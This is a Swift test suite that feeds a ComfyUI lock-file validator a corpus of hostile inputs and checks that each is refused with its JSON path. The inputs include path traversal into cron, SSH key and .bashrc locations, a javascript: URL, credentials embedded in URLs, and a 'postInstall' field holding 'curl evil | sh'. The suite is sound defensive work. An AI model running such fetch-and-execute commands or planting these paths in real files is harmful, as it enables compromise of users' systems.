import ComfyCLI
import ComfyLock
import Foundation
import TestSupport
import Testing

/// A corpus of hostile lock files. Each must be refused — by the parser, the schema or the validator — with a message
/// naming a JSON path, and never crash the process.
@Suite("hostile lock corpus")
struct HostileLockTests {
    struct Hostile: Sendable, CustomTestStringConvertible {
        let name: String
        let bytes: [UInt8]
        /// The JSON path the refusal must name (prefix match).
        let path: String
        var testDescription: String { name }
    }

    static func canonical(_ edit: (inout [String: JSONValue]) -> Void) -> [UInt8] {
        var object = Fixtures.fullLock().sorted().jsonValue.objectValue!
        edit(&object)
        return CanonicalJSON.encode(.object(object))
    }

    static func editModel(_ field: String, _ value: JSONValue) -> [UInt8] {
        canonical { object in
            var models = object["models"]!.arrayValue!
            var first = models[0].objectValue!
            first[field] = value
            models[0] = .object(first)
            object["models"] = .array(models)
        }
    }

    static func replacing(_ old: String, with new: [UInt8]) -> [UInt8] {
        let text = LockFile.encode(Fixtures.fullLock()).text
        let range = text.range(of: old)!
        return Array(text[..<range.lowerBound].utf8) + new + Array(text[range.upperBound...].utf8)
    }

    static let corpus: [Hostile] = [
        Hostile(
            name: "model path traversal", bytes: editModel("path", "../../../../etc/cron.d/x"), path: "$.models[0].path"
        ),
        Hostile(
            name: "absolute model path", bytes: editModel("path", "/root/.ssh/authorized_keys"),
            path: "$.models[0].path"),
        Hostile(
            name: "NUL in model path", bytes: editModel("path", "checkpoints/a\u{0}.safetensors"),
            path: "$.models[0].path"),
        Hostile(
            name: "encoded traversal via backslash", bytes: editModel("path", "..\\..\\x"), path: "$.models[0].path"),
        Hostile(name: "bad sha256", bytes: editModel("sha256", "zz"), path: "$.models[0].sha256"),
        Hostile(
            name: "uppercase sha256", bytes: editModel("sha256", .string(Fixtures.shaB.uppercased())),
            path: "$.models[0].sha256"),
        Hostile(
            name: "token in source URL",
            bytes: editModel("sources", ["https://civitai.com/api/download/models/1?token=abcdef0123"]),
            path: "$.models[0].sources[0]"),
        Hostile(
            name: "password in source URL", bytes: editModel("sources", ["https://bob:s3cret@mirror.example.com/x"]),
            path: "$.models[0].sources[0]"),
        Hostile(
            name: "javascript URL", bytes: editModel("sources", ["javascript:alert(1)"]), path: "$.models[0].sources[0]"
        ),
        Hostile(
            name: "huge size", bytes: replacing("\"size\":6938078334", with: Array("\"size\":1e400".utf8)),
            path: "$.models[0].size"),
        Hostile(name: "size beyond 2^53", bytes: editModel("size", 1e300), path: "$.models[0].size"),
        Hostile(name: "negative size", bytes: editModel("size", -5), path: "$.models[0].size"),
        Hostile(name: "fractional size", bytes: editModel("size", 1.5), path: "$.models[0].size"),
        Hostile(name: "size as string", bytes: editModel("size", "12"), path: "$.models[0].size"),
        Hostile(
            name: "duplicate key",
            bytes: replacing("\"tag\":\"sdxl-prod\"", with: Array("\"tag\":\"a\",\"tag\":\"b\"".utf8)), path: "$.tag"),
        Hostile(
            name: "duplicate model key",
            bytes: replacing("\"size\":6938078334", with: Array("\"size\":1,\"size\":2".utf8)), path: "$.models[0].size"
        ),
        Hostile(name: "invalid UTF-8 in tag", bytes: replacing("sdxl-prod", with: [0x73, 0xFF, 0xFE]), path: "$.tag"),
        Hostile(name: "overlong UTF-8 slash", bytes: replacing("sdxl-prod", with: [0xC0, 0xAF]), path: "$.tag"),
        Hostile(
            name: "lone surrogate escape", bytes: replacing("sdxl-prod", with: Array("\\udead".utf8)), path: "$.tag"),
        Hostile(
            name: "NaN", bytes: replacing("\"size\":6938078334", with: Array("\"size\":NaN".utf8)),
            path: "$.models[0].size"),
        Hostile(
            name: "Infinity", bytes: replacing("\"size\":6938078334", with: Array("\"size\":-Infinity".utf8)),
            path: "$.models[0].size"),
        Hostile(
            name: "trailing comma", bytes: replacing("\"workflows\":[", with: Array("\"workflows\":[1,],\"x\":[".utf8)),
            path: "$.workflows[1]"),
        Hostile(
            name: "10,000-deep nesting in an inline workflow",
            bytes: replacing(
                "\"inline\":{",
                with: Array(
                    ("\"inline\":{\"deep\":" + String(repeating: "[", count: 10_000)
                        + String(repeating: "]", count: 10_000) + ",").utf8)),
            path: "$.workflows[1].inline.deep"),
        Hostile(
            name: "node name traversal",
            bytes: canonical { object in
                var nodes = object["customNodes"]!.arrayValue!
                var first = nodes[0].objectValue!
                first["name"] = "../../../.bashrc"
                nodes[0] = .object(first)
                object["customNodes"] = .array(nodes)
            }, path: "$.customNodes[0].name"),
        Hostile(
            name: "commit not hex",
            bytes: canonical { object in
                object["comfyui"] = ["url": "https://github.com/comfyanonymous/ComfyUI", "commit": "HEAD"]
            }, path: "$.comfyui.commit"),
        Hostile(name: "future schema version", bytes: canonical { $0["schemaVersion"] = 99 }, path: "$.schemaVersion"),
        Hostile(
            name: "unknown member", bytes: canonical { $0["postInstall"] = "curl evil | sh" }, path: "$.postInstall"),
        Hostile(name: "not an object", bytes: Array("[1,2,3]".utf8), path: "$"),
        Hostile(name: "byte order mark", bytes: [0xEF, 0xBB, 0xBF] + LockFile.encode(Fixtures.fullLock()), path: "$"),
        Hostile(name: "trailing garbage", bytes: LockFile.encode(Fixtures.fullLock()) + Array("{}".utf8), path: "$"),
        Hostile(name: "truncated", bytes: Array(LockFile.encode(Fixtures.fullLock()).prefix(300)), path: "$."),
    ]

    /// Runs the full pipeline the CLI runs: strict parse + schema, then the validator. Returns the refusal's path.
    static func refusal(_ bytes: [UInt8]) -> (path: String, message: String)? {
        do {
            let lock = try LockFile.decode(bytes)
            let errors = LockValidator.validate(lock).filter { $0.severity == .error }
            return errors.first.map { ($0.path, $0.message) }
        } catch {
            return (error.path ?? "", error.description)
        }
    }

    @Test("each hostile lock is refused with an error naming its JSON path", arguments: corpus)
    func refused(hostile: Hostile) throws {
        let refusal = try #require(Self.refusal(hostile.bytes), "\(hostile.name) was accepted")
        #expect(refusal.path.hasPrefix(hostile.path), "\(hostile.name): \(refusal)")
        for secret in ["abcdef0123", "s3cret"] { #expect(!refusal.message.contains(secret)) }
    }

    @Test("the CLI refuses every hostile lock with exit 1 and a path on stderr, never a crash")
    func cliRefuses() async throws {
        let dir = try TemporaryDirectory()
        defer { dir.remove() }
        for (index, hostile) in Self.corpus.enumerated() {
            let url = dir.appending("hostile-\(index).lock.json")
            try Data(hostile.bytes).write(to: url)
            let capture = CapturingConsole()
            let code = await Console.$current.withValue(capture.console) {
                await CLI.run(["lock", "validate", url.path])
            }
            #expect(code == 1, "\(hostile.name)")
            #expect(capture.standardError.contains("$"), "\(hostile.name): \(capture.standardError)")
            #expect(!capture.standardError.contains("s3cret") && !capture.standardError.contains("abcdef0123"))
        }
    }
}
